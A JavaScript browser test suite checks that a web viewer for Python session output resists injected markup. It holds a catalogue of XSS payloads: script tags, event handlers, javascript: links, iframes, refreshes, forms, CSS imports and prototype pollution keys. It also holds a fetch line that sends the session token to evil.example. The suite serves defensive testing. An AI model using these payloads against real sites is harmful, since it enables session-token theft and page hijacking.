// Programs that want more than to be shown.
import assert from "node:assert/strict";
import {after, before, test} from "node:test";
import {api, begin, closeBrowser, idle, open, reader, run, unharmed} from "./reader.mjs";
import {serve} from "./servers.mjs";

const TOKEN = "token-of-the-suite";
const SCRIPT = "top.pwned=1;parent.pwned=1;fetch('http://evil.example/?'+sessionStorage['openenv.token']);alert(1)";

/** @param {string} text @returns {string} as a literal of Python */
const literal = text => JSON.stringify(text).replaceAll("\u007f", "\\u007f");
const html = text => `from IPython.display import HTML\nHTML(${literal(text)})`;
const attempts = {
    "markup on stdout": `print(${literal(`<img src=x onerror="${SCRIPT}"><script>${SCRIPT}</script>`)})`,
    "markup on stderr": `import sys\nprint(${literal(`<svg onload="${SCRIPT}">`)}, file=sys.stderr)`,
    "markup as a value": literal(`</pre><img src=x onerror="${SCRIPT}">`),
    "markup in an exception": `class X(Exception): pass\nX.__name__ = ${literal(`<img src=x onerror="${SCRIPT}">`)}\nraise X(${literal(`<script>${SCRIPT}</script>`)})`,
    "a frame's file that is markup": `exec(compile("1/0", ${literal(`<step-1>"><img src=x onerror="${SCRIPT}">`)}, "exec"))`,
    "a script in HTML": html(`<script>${SCRIPT}</script>`),
    "a handler in HTML": html(`<img src=x onerror="${SCRIPT}"><body onload="${SCRIPT}"><details open ontoggle="${SCRIPT}">`),
    "an SVG in HTML": html(`<svg><script>${SCRIPT}</script><animate onbegin="${SCRIPT}" attributeName=x dur=1s></svg>`),
    "a frame in HTML": html(`<iframe srcdoc="<script>${SCRIPT}</script>"></iframe><iframe src="javascript:${SCRIPT}"></iframe><object data="/web"></object><embed src="/web">`),
    "a refresh in HTML": html(`<meta http-equiv="refresh" content="0;url=http://evil.example/">`),
    "a base and links in HTML": html(`<base href="http://evil.example/" target="_top"><a href="javascript:${SCRIPT}" id=a>x</a><link rel=stylesheet href="http://evil.example/a.css"><link rel=prefetch href="http://evil.example/b">`),
    "hints in HTML": html(`<link rel=preconnect href="http://told.evil.example/"><link rel="dns-prefetch" href="http://told.evil.example/"><a href="http://told.evil.example/" ping="http://evil.example/p">x</a><svg><a href="http://evil.example/"><text>y</text></a></svg>`),
    "a form in HTML": html(`<form action="/reset" method=post target=_top><button id=b>x</button></form><form action="http://evil.example/" id=f><input name=q autofocus onfocus="f.submit()"></form>`),
    "styles in HTML": html(`<style>@import "http://evil.example/c.css";body{background:url(http://evil.example/d.png)}</style>`),
    "an SVG": `from IPython.display import SVG\nSVG(${literal(`<svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT}"><script>${SCRIPT}</script><image href="http://evil.example/e.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${SCRIPT}"/></foreignObject></svg>`)})`,
    "JavaScript": `from IPython.display import Javascript\nJavascript(${literal(SCRIPT)})`,
    "Markdown and LaTeX": `from IPython.display import Markdown, Latex\ndisplay(Latex(${literal(`\\href{javascript:${SCRIPT}}{x}<img src=x onerror="${SCRIPT}">`)}))\nMarkdown(${literal(`[x](javascript:${SCRIPT}) <img src=x onerror="${SCRIPT}">`)})`,
    "JSON with odd keys": `from IPython.display import JSON\nJSON({"__proto__": {"polluted": 1}, ${literal(`<img src=x onerror="${SCRIPT}">`)}: [${literal("<script>")}], "constructor": {"prototype": {"polluted": 1}}})`,
    "a picture that is none": `class P:\n    def _repr_mimebundle_(self, **_):\n        return {"image/png": "AAAA", "text/html": ${literal(`<b>x</b><script>${SCRIPT}</script>`)}}\nP()`,
    "a type that is markup": `class P:\n    def _repr_mimebundle_(self, **_):\n        return {${literal(`text/x-<img src=x onerror="${SCRIPT}">`)}: "x", "text/plain": "p"}\nP()`,
    "sequences of a terminal": "print('\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07 \\x1b]0;title\\x07 \\x1b[999999999;999999999H\\x1b[999999999A\\x1b[999999999C x \\x1b[38;2;999;-1;0m\\x1b[\\x1b[\\x1bP$q\\x1b\\\\ \\x9b31m \\u202e\\u2066 \\x00')",
    "a file whose name is markup": `open(${literal(`<img src=x onerror="pwned=1">.html`)}, "w").write(${literal(`<script>${SCRIPT}</script>`)})`,
    "an endless line": "print('x' * 3_000_000)",
    "many lines": "print('\\n' * 300_000)",
    "many colours": "print(''.join('\\x1b[%dmx' % (30 + i % 8) for i in range(60_000)))",
};

let server;
let page;
let token;

before(async () => {
    server = await serve("--auth-token", TOKEN);
    const own = await reader();
    page = own.page;
    await page.goto(`${server.url}/web`);
    await page.getByLabel("Token").fill(TOKEN);
    await page.keyboard.press("Enter");
    await open(page, server.url);
    token = await page.evaluate(() => sessionStorage.getItem("openenv.token"));
});

after(async () => {
    await closeBrowser();
    await server?.stop();
});

for (const [what, code] of Object.entries(attempts)) {
    test(`shows ${what} and no more`, async () => {
        await page.getByRole("tab", {name: "Files"}).click();
        page.troubles.length = 0;
        const title = await page.title();
        const step = await run(page, code);
        for (const frame of await step.locator("iframe").elementHandles()) {
            await frame.scrollIntoViewIfNeeded();
            const inside = await frame.contentFrame();
            await inside?.waitForLoadState("load").catch(() => undefined);
            await inside?.evaluate(() => document.querySelectorAll("a, button").forEach(each => each.click())).catch(() => undefined);
            assert.notEqual(await inside?.evaluate(() => {
                try {
                    return parent.document.title;
                } catch {
                    return "out of reach";
                }
            }).catch(() => "out of reach"), title);
        }
        await page.evaluate(() => new Promise(resolve => requestAnimationFrame(() => setTimeout(resolve, 100))));
        assert.equal(token, TOKEN);
        assert.equal(await page.evaluate(() => [window.pwned, {}.polluted, document.title, location.pathname].join()), `,,${title},/web`);
        assert.equal((await api(server.url, "sessions", {headers: {Authorization: `Bearer ${TOKEN}`}})).sessions.length, 1);
        assert.equal(await page.locator(".step").last().getAttribute("aria-label"), await step.getAttribute("aria-label"));
        assert.ok(await page.locator(".step").last().locator(".line").count() <= 2000);
        unharmed(page);
    });
}

test("a page of the program's can't make this one act by messages", async () => {
    const steps = await page.locator(".step").count();
    await page.evaluate(() => {
        for (const data of [{html: "<b>x</b>"}, {height: 1e9}, {height: "x"}, {ready: true}, {type: "step", data: {code: "1"}}, null, 7]) {
            window.postMessage(data, "*");
        }
    });
    await page.evaluate(() => new Promise(resolve => setTimeout(resolve, 100)));
    assert.equal(await page.locator(".step").count(), steps);
});

test("a flood of output does not freeze the page", async () => {
    const step = await begin(page, "import time\nend = time.monotonic() + 10\nline = 'flood ' * 17 + '\\n'\nwhile time.monotonic() < end:\n    print(line * 1000, end='', flush=True)\n    time.sleep(0.1)");
    await step.locator(".output .line").first().waitFor();
    let answers = 0;
    while (!await page.locator("#interrupt").isDisabled()) {
        await page.getByRole("tab", {name: answers % 2 === 0 ? "Messages" : "Episode"}).click();
        answers++;
    }
    assert.ok(answers > 2, `the page answered ${answers} times while output came`);
    assert.ok(await step.locator(".line").count() <= 2000);
    console.log(`# the page answered ${answers} clicks during the flood`);
});

test("200 figures are shown", async () => {
    for (let at = 0; at < 4; at++) {
        const step = await run(page, "import zlib, struct\ndef chunk(kind, data):\n    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))\nclass Figure:\n    def _repr_png_(self):\n        rows = b''.join(b'\\x00' + bytes(range(0, 200)) * 3 for _ in range(100))\n        return b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', 200, 100, 8, 2, 0, 0, 0)) + chunk(b'IDAT', zlib.compress(rows)) + chunk(b'IEND', b'')\nfor i in range(50):\n    display(Figure())");
        assert.equal(await step.locator("img").count(), 50);
    }
    await idle(page);
    await page.locator("img").last().scrollIntoViewIfNeeded();
    unharmed(page);
});

test("another host would have been heard of", async () => {
    await page.goto("http://evil.example/").catch(() => undefined);
    assert.throws(() => unharmed(page));
});
